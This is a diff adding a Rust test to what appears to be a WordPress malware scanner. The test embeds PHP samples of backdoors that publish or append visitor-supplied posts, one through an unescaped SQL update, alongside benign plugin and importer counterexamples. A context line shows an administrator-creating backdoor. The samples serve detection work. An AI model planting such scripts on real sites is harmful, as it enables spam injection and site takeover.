@@ -112,3 +112,22 @@ fn a_script_loading_wordpress_to_make_an_administrator_is_a_backdoor() {
         'user_pass' => $argv[2], 'role' => 'administrator'));"#;
     assert!(found(given).is_empty());
 }
+
+#[test]
+fn a_script_loading_wordpress_to_write_the_visitors_posts_is_a_spam_control() {
+    // fresh72's `wp-blog-post.php`: WordPress searched for up the folders, the visitor's post added.
+    let poster = r#"<?php for ($i = 0; $i <= 6; $i++) { $prefix = implode("", array_fill(1, $i, "../"));
+        $h = $prefix . "wp-blog-header.php"; if (file_exists($h)) { require_once($h); break; } }
+        $p = array('post_title' => $_POST['title'], 'post_content' => $_POST['body'], 'post_status' => 'publish');
+        wp_insert_post($p);"#;
+    assert_eq!(found(poster), [(Why::RemoteSpamControl, Danger::High)]);
+    let appender = r#"<?php require_once('../wp-blog-header.php');
+        $wpdb->query("Update `$wpdb->posts` Set post_content = CONCAT(post_content, '" . $_POST['body'] . "') Where ID = 7");"#;
+    assert_eq!(found(appender), [(Why::RemoteSpamControl, Danger::High)]);
+    // A plugin's form writes posts inside WordPress, and an importer that loads WordPress
+    // writes what its own files say.
+    let inside = "<?php add_action('init', function () { if (isset($_POST['t'])) { wp_insert_post(array('post_title' => sanitize_text_field($_POST['t']))); } });";
+    assert!(found(inside).is_empty());
+    let importer = "<?php require 'wp-load.php'; foreach (glob('posts/*.txt') as $f) { wp_insert_post(array('post_content' => file_get_contents($f))); }";
+    assert!(found(importer).is_empty());
+}
